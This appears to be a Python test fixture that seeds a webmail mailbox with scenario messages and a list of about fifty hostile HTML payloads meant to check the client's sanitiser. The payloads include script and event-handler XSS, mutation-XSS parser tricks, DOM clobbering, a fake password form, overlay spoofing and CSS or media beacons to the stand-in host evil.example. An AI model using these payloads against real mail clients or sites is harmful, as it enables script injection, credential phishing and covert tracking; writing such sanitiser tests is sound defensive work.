"""A mailbox for scenarios of the web mail: a conversation, a newsletter, files, Korean, and letters that mean harm."""
import base64
import email.message
import email.policy
import email.utils
import smtplib
import struct
import time
import zlib

BASE = time.time()


def png(red, green, blue, size=8):
    """A real picture of one colour."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + bytes((red, green, blue)) * size for _ in range(size))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def letter(sender, to, subject, text, html=None, minutes=0, reply_to=None, number=0, cc=None):
    made = email.message.EmailMessage()
    made["From"], made["To"], made["Subject"] = sender, to, subject
    if cc:
        made["Cc"] = cc
    made["Date"] = email.utils.formatdate(BASE - minutes * 60)
    made["Message-ID"] = f"<{number or abs(hash((subject, minutes)))}@example.net>"
    if reply_to:
        made["In-Reply-To"] = made["References"] = f"<{reply_to}@example.net>"
    made.set_content(text)
    if html:
        made.add_alternative(html, subtype="html")
    return made


def deliver(server, *letters, to="alice@example.com"):
    with smtplib.SMTP(server.ip, server.port["smtp"], local_hostname="mx.example.net") as s:
        for one in letters:
            data = one if isinstance(one, bytes) else one.as_bytes(policy=email.policy.SMTP)
            assert s.sendmail("carol@example.net", [to], data) == {}


NEWSLETTER = """<html><head><style>body{background:#f5f5f0} h1{color:#234}</style></head><body bgcolor="#f5f5f0">
<table width="600" align="center" bgcolor="#ffffff" cellpadding="24"><tr><td><h1>Autumn at the museum</h1>
<p>Three new rooms open on Friday. <a href="https://museum.example/rooms">See what is in them</a>.</p>
<img src="https://track.example/open.gif?who=alice" width="1" height="1"><img src="cid:logo@museum" alt="Our logo" width="64" height="64">
<p><a href="https://evil.example/login">www.mybank.example</a></p></td></tr></table></body></html>"""


def fill(server):
    plan = letter("Carol Kim <carol@example.net>", "Alice <alice@example.com>", "Plan for the bridge", "Hello Alice,\n\nshall we meet on Monday at ten? "
                  "The drawings are at https://example.net/drawings.\n\nCarol", minutes=300, number=1001)
    second = letter("Dave Lee <dave@example.net>", "Carol Kim <carol@example.net>, Alice <alice@example.com>", "Re: Plan for the bridge",
                    "Ten suits me.\n\nOn Tue, Carol Kim wrote:\n> shall we meet on Monday at ten?\n> The drawings are here.\n", minutes=200, number=1002, reply_to=1001)
    third = letter("Carol Kim <carol@example.net>", "Alice <alice@example.com>", "Re: Plan for the bridge", "Then it is settled: Monday at ten.\n\nCarol",
                   minutes=100, number=1003, reply_to=1002, cc="Dave Lee <dave@example.net>")
    news = letter("The Museum <news@museum.example>", "alice@example.com", "Autumn at the museum", "Three new rooms open on Friday.", NEWSLETTER, minutes=90, number=1004)
    news.get_payload()[1].add_related(png(200, 90, 40), "image", "png", cid="<logo@museum>")
    korean = letter("김민지 <minji@example.net>", "alice@example.com", "회의록과 예산안을 보냅니다", "안녕하세요,\n\n어제 회의록과 내년 예산안을 첨부합니다.\n확인해 주세요.\n\n민지 드림",
                    minutes=60, number=1005)
    korean.add_attachment("항목,금액\n종이,1000\n".encode(), maintype="text", subtype="csv", filename="예산안.csv")
    korean.add_attachment(png(40, 120, 200, 64), maintype="image", subtype="png", filename="그림.png")
    lunch = letter("Bob <bob@example.com>", "alice@example.com", "Lunch", "At noon, as always?", minutes=30, number=1006)
    deliver(server, *(letter("Build robot <robot@example.net>", "alice@example.com", f"Night build {n}", f"Build {n} is green.", minutes=1000 + n, number=2000 + n)
                      for n in range(1, 71)))
    deliver(server, plan, second, third, news, korean, lunch)


# Each tries to run MARK(), which scenarios look for, or to ask evil.example for something.
HOSTILE = [
    "<script>parent.postMessage('MARK','*');MARK()</script>",
    "<img src=x onerror=MARK()>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=MARK()><script>MARK()</script></svg>",
    "<svg><animate onbegin=MARK() attributeName=x dur=1s></svg>",
    "<svg><image href='https://evil.example/svg.png'/></svg>",
    "<body onload=MARK()>",
    "<iframe src='javascript:parent.MARK()'></iframe><iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>parent.MARK()</script>'></iframe>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "<base href='https://evil.example/'><img src='relative.png'>",
    "<link rel=stylesheet href='https://evil.example/s.css'><link rel=prefetch href='https://evil.example/p'>",
    "<style>@import 'https://evil.example/i.css'; body{background:url(https://evil.example/b.png)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)} *{font-family:x}</style>",
    "<div style=\"background:url('https://evil.example/d.png')\">x</div>",
    "<div style='background:u\\72l(https://evil.example/escaped.png)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/set.png\" 1x)'>x</div>",
    "<style>:root{--x:url(https://evil.example/var.png)} p{background:var(--x)}</style><p>x</p>",
    "<table background='https://evil.example/t.png'><tr><td background='https://evil.example/td.png'>x</table>",
    "<img srcset='https://evil.example/1x.png 1x, https://evil.example/2x.png 2x'>",
    "<picture><source srcset='https://evil.example/source.png'><img></picture>",
    "<video poster='https://evil.example/poster.png' src='https://evil.example/v.mp4' autoplay></video>",
    "<audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<img src='\nhttps://evil.example/newline.gif'>",
    "<img src='//evil.example/scheme.gif'>",
    "<input type=image src='https://evil.example/input.png'>",
    "<form action='https://evil.example/form'><input name=password type=password autofocus onfocus=MARK()><button>Sign in</button></form>",
    "<a id=clobber href='javascript:MARK()'>click</a>",
    "<a href='data:text/html,<script>parent.MARK()</script>'>click</a>",
    "<a href=' javascript:MARK()'>click</a><a href='java\tscript:MARK()'>click</a><a href='vbscript:MARK()'>click</a>",
    "<a ping='https://evil.example/ping' href='#'>click</a>",
    "<details open ontoggle=MARK()>x</details>",
    "<marquee onstart=MARK()>x</marquee>",
    "<div style='animation:a 1s' onanimationstart=MARK()>x</div><style>@keyframes a{from{color:red}}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=MARK()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=MARK()>",
    "<svg></p><style><a id='</style><img src=1 onerror=MARK()>'>",
    "<noscript><p title='</noscript><img src=x onerror=MARK()>'></noscript>",
    "<template><img src=x onerror=MARK()></template>",
    "<textarea><img title='</textarea><img src=x onerror=MARK()>'></textarea>",
    "<select><style></select><img src=x onerror=MARK()></style></select>",
    "<xmp><img title='</xmp><img src=x onerror=MARK()>'></xmp>",
    "<!--><img src=x onerror=MARK()>-->",
    "<![CDATA[<img src=x onerror=MARK()>]]>",
    "<img name=body><img name=getElementById><form name=document></form>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>This is not your mail</div>",
    "<div popover id=p>x</div><button popovertarget=p>x</button><dialog open>Sign in again</dialog>",
    "<a href='https://evil.example/' target=_top>top</a><a href='https://evil.example/' target=_parent>parent</a>",
    "<isindex action='https://evil.example/' prompt=x><keygen>",
]


def hostile():
    """One letter for each, and one with all; one conversation."""
    out = []
    for number, html in enumerate([*HOSTILE, "\n".join(HOSTILE)]):
        data = base64.encodebytes(f"<html><body><p>Letter {number}</p>{html}</body></html>".encode()).replace(b"\n", b"\r\n")
        out.append(b"From: Mallory <mallory@evil.example>\r\nTo: alice@example.com\r\nSubject: Hostile\r\nMessage-ID: <hostile%d@evil.example>\r\n"
                   b"References: <hostile0@evil.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" % number + data)
    return out
